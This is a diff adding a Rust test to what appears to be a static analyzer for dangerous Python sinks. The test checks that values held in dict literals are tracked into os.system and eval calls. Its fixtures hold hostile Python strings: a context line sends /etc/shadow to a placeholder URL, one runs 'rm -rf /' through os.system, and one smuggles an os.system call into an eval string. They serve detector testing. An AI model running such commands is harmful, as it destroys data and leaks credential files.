@@ -89,3 +89,20 @@ fn objects_that_take_in_secrets_hold_them() {
         "import requests\nparts = []\nparts.append(open('/etc/shadow').read())\nrequests.post('https://x', json=parts)\n",
     );
 }
+
+#[test]
+fn dicts_with_known_keys_fold() {
+    // A value kept in a dict literal reaches its sink through d[k] and d.get(k).
+    fires(
+        "CRD104",
+        "import os\nd = {'c': 'rm -rf /'}\nos.system(d['c'])\n",
+    );
+    fires(
+        "CRD209",
+        "d = {1: \"__import__('os').system('id')\"}\neval(d.get(1))\n",
+    );
+    silent(
+        "CRD303",
+        "d = {'f': '2 * 3'}\nprint({k: eval(v) for k, v in d.items()})\n",
+    );
+}
